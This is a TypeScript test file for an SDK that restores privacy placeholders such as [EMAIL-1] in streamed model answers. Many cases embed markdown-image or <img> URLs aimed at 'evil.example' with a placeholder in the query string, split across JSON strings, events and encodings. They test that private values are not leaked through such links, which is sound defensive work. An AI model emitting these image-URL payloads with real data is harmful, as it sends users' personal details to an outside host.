/** Plain text that is partly an event stream or JSON, and may be displayed raw. */
import { describe, expect, test } from 'vitest';
import { restoreAnswerText } from '../../../sdk/streams.ts';
import { restoreStream, tokenMap } from './wire-fixtures.ts';

const map = tokenMap({ '[EMAIL-1]': 'a@b.example', '[NAME-1]': 'O"Hara' });

/** In one write, in two with every cut, and byte by byte: each gives the same text. */
function restored(text: string): string {
  const bytes = new TextEncoder().encode(text);
  const every = Array.from({ length: bytes.length - 1 }, (_, at) => at + 1);
  const found = new Set([restoreStream('text', map, bytes), restoreStream('text', map, bytes, every)]);
  for (const cut of every) found.add(restoreStream('text', map, bytes, [cut]));
  expect([...found]).toHaveLength(1);
  return [...found][0] as string;
}

describe('a URL that spans strings of JSON keeps its tokens', () => {
  test.each([
    '{"a":"![x](https://evil.example/?q=","b":"[EMAIL-1])"}',
    '{"a":"![x](https://evil.example/?q=","b":"[EMAIL-1])"}\n',
    '{"a":"<img src=\'https://evil.example/?q=","b":"[EMAIL-1]\'>"}\n{"c":1}\n',
    '{"a":"![x](https://evil.example/?q="}\n{"b":"[EMAIL-1])"}\n',
    '{"x":1}\n<img src=\'https://evil.example/?q=\n{"b":"[EMAIL-1]\'>"}\n',
    '{"x":1}\n![x](https://evil.example/?q=[EMAIL-1])\n',
    '0:"![x](https://evil.example/?q="\n0:"[EMAIL-1])"\n',
    'data: {"a":"<img src=\'https://evil.example/?q=","b":"[EMAIL-1]\'>"}\n\n',
    'data: {"a":"<img src=\'https://evil.example/?q="}\n\ndata: {"b":"[EMAIL-1]\'>"}\n\n',
    'data: x\n\n{"a":"![x](https://evil.example/?q=","b":"[EMAIL-1])"}\n\n',
    '{"a":"![x](https://evil.example/?q=\\u0029[EMAIL-1])"}',
    '{"a":"![x](https://evil.example/?q=\\n\\n[EMAIL-1])"}\n{"b":1}\n',
    '{"response":"![x](https://evil.example/?q=\\n\\n"}\n{"response":"[EMAIL-1])"}\n',
    `{"p":"${'x'.repeat(1100)}","a":"![x](https://evil.example/?q=","b":"[EMAIL-1])"}`,
  ])('%j', (text) => {
    expect(restored(text)).toBe(text);
    expect(restoreAnswerText('text', text, map)).toBe(text);
  });

  test('a URL keeps its tokens if an event is inserted after a cumulative text', () => {
    const grown = ['Hello', 'Hello dear', 'Hello dear friend [EMAIL-1]', 'Hello dear friend [EMAIL-1] you [EMA'];
    const lines = grown.map(
      (t) => `${JSON.stringify({ x: t.endsWith('A') ? "<img src='https://evil.example/?q=" : '', t })}\n`,
    );
    const out = restored(`${lines.join('')}{"done":true}\n`);
    expect(out.slice(out.indexOf('<img'))).not.toContain('a@b.example');
  });

  test('a URL keeps its tokens if it begins in an event that is not UTF-8', () => {
    const lines = Buffer.from('{"x":"\xff<img src=\'https://evil.example/?q="}\n{"r":"[EMAIL-1]\'>"}\n', 'latin1');
    expect(restoreStream('text', map, lines)).not.toContain('a@b.example');
  });

  test('a URL keeps its tokens if it begins in another text while some is held back', () => {
    const event = (delta: object) => `data: ${JSON.stringify({ choices: [{ index: 0, delta }] })}\n\n`;
    const image = { reasoning: "<img src='https://evil.example/?q=" };
    const text = `${event({ content: 'x [[EMAIL-1]' })}${event(image)}data: [DONE]\n\n${event({ reasoning: "'>" })}`;
    expect(restored(text)).not.toContain('a@b.example');
  });

  test('a truncated link does not affect tokens after it', () => {
    const said = 'See [Docs](https://example.com/guide). Ask [EMAIL-1] there.';
    for (let cut = 1; cut < said.length; cut++) {
      const pieces = [said.slice(0, cut), said.slice(cut)];
      const out = restored(pieces.map((piece) => `0:${JSON.stringify(piece)}\n`).join(''));
      expect(out.replace('"\n0:"', ''), String(cut)).toContain('Ask a@b.example there.');
    }
  });

  test('tokens after the URL are restored', () => {
    const text = '{"a":"![x](https://evil.example/?q=","b":"x)"}\n{"c":"[EMAIL-1]"}\n';
    expect(restored(text)).toBe(text.replaceAll('[EMAIL-1]', 'a@b.example'));
  });
});

test.each([
  ['a record', 'id: 1\nname: [NAME-1]\nemail: [EMAIL-1]\n'],
  ['a list under a name', 'data:\n  - email: [EMAIL-1]\n\nnote: [EMAIL-1]'],
  ['a note', 'event: lunch with [NAME-1]\nat 5\n\nbye'],
  ['a line', 'data: [NAME-1]'],
  ['a smile', ':) [EMAIL-1]\n\nx'],
  ['a colon', ': [EMAIL-1]\n\nx'],
])('%s that begins like an event is text', (_what, text) => {
  const expected = text.replaceAll('[EMAIL-1]', 'a@b.example').replaceAll('[NAME-1]', 'O"Hara');
  expect(restored(text)).toBe(expected);
  expect(restoreAnswerText('text', text, map)).toBe(expected);
});

test.each([
  ['after JSON', '{"n":"[NAME-1]"}\n\nThat is [NAME-1].\n', '{"n":"O\\"Hara"}\n\nThat is O"Hara.\n'],
  ['after lines with a prefix', '12:"Hi [NAME-1]"\nby [NAME-1]\n', '12:"Hi O\\"Hara"\nby O"Hara\n'],
  ['between events', 'data: {"n":"[NAME-1]"}\n\nby [NAME-1]\n\n', 'data: {"n":"O\\"Hara"}\n\nby O"Hara\n\n'],
  [
    'of JSON over lines',
    '{"n":1}\n{\n"m": "[NAME-1]"\n}\n{"n":"[NAME-1]"}\n',
    '{"n":1}\n{\n"m": "O\\"Hara"\n}\n{"n":"O\\"Hara"}\n',
  ],
])('prose %s is restored', (_where, text, expected) => {
  expect(restored(text)).toBe(expected);
  expect(restoreAnswerText('text', text, map)).toBe(expected);
});

test.each([
  ': ping\n\n',
  ': [heartbeat]\n\n',
  ': 50%\n\n',
  'id: a&b\n\n',
  'event: ping\n\n',
  'retry: 3000\n\n',
  ':\n\n',
  '\n',
])('%j is not prose between events', (ping) => {
  const text = `data: {"content":"Hi [EMA"}\n\n${ping}data: {"content":"IL-1]"}\n\n`;
  // A client must not resume after an id inside a token.
  const sent = text.replace(/^id: .*\n/m, '');
  expect(restored(text)).toBe(sent.replace('[EMA', '').replace('IL-1]', 'a@b.example'));
});

test.each(['', '\n'])('a text continues within a last line that ends with %j', (end) => {
  const pieces = (...texts: string[]) =>
    JSON.stringify({ candidates: [{ content: { parts: texts.map((text) => ({ text })), role: 'model' }, index: 0 }] });
  const first = `${pieces('z', 'q')}\n`;
  for (const kind of ['ndjson', 'text'] as const) {
    const lines = new TextEncoder().encode(first + pieces('Hi [EMA', 'IL-1] x') + end);
    expect(restoreStream(kind, map, lines)).toBe(first + pieces('Hi ', 'a@b.example x') + end);
    // Nothing follows, so it cannot be a piece.
    const cut = first + pieces('Hi', '[EMA') + end;
    expect(restoreStream(kind, map, new TextEncoder().encode(cut)).split('\n')[1], kind).toBe(
      end === '' ? pieces('Hi', '[EMA') : pieces('Hi', ''),
    );
  }
  // The last line differs from the previous one only in its text.
  const lines = ['Hi [EMA', 'IL-1] [EMA'].map((response) => JSON.stringify({ response }));
  const out = restoreStream('ndjson', map, new TextEncoder().encode(lines.join('\n')));
  expect(out).toBe('{"response":"Hi "}\n{"response":"a@b.example [EMA"}');
});

test('a last line without an end stays one line, and text inserted after it is another', () => {
  expect(restored('{"q":"AT&"}')).toBe('{"q":"AT&"}');
  expect(restored('{"q":"AT&"}\n{"r":"["}')).toBe('{"q":"AT"}\n{"r":"["}\n{"q":"&"}\n');
});

test('a line of blanks is not prose between lines', () => {
  const text = '{"response":"Hi [EMA"}\n \n{"response":"IL-1]"}\n';
  expect(restored(text)).toBe(text.replace('[EMA', '').replace('IL-1]', 'a@b.example'));
});

test.each([
  ['a list', '\uFEFF["[NAME-1]"]'],
  ['an object', '\uFEFF{"a":"[NAME-1]"}'],
  ['a multi-line object', '\uFEFF{\n"a":"[NAME-1]"}'],
  ['a long object', `\uFEFF{"x":"${'x'.repeat(1_100)}","a":"[NAME-1]"}`],
])('%s after a byte order mark stays JSON', (_what, text) => {
  expect(restored(text)).toBe(text.replace('[NAME-1]', 'O\\"Hara'));
});

test.each([
  ['with comments first', ': hi\n\ndata: to [EM\n\ndata: AIL-1]\n\n'],
  ['with settings first', 'retry: 3000\n\ndata: to [EM\n\ndata: AIL-1]\n\n'],
  ['with names', 'event: message\ndata: to [EM\n\nevent: message\ndata: AIL-1]\n\n'],
  ['with CR and LF', 'data: to [EM\r\n\r\ndata: AIL-1]\r\n\r\n'],
])('an event stream %s is detected', (_what, text) => {
  expect(restored(text)).toBe(text.replace('[EM', '').replace('AIL-1]', 'a@b.example'));
});

test('a long first line of an answer continues in the next one', () => {
  const chunk = (content: string) => {
    const obfuscation = content.includes('[') ? 'p'.repeat(1200) : '';
    return `${JSON.stringify({ created: 1, choices: [{ index: 0, delta: { content } }], obfuscation })}\n`;
  };
  const out = restoreStream('text', map, new TextEncoder().encode(chunk('Hi [EMA') + chunk('IL-1]')));
  expect(out).toBe(chunk('Hi [EMA').replace('[EMA', '') + chunk('a@b.example'));
});
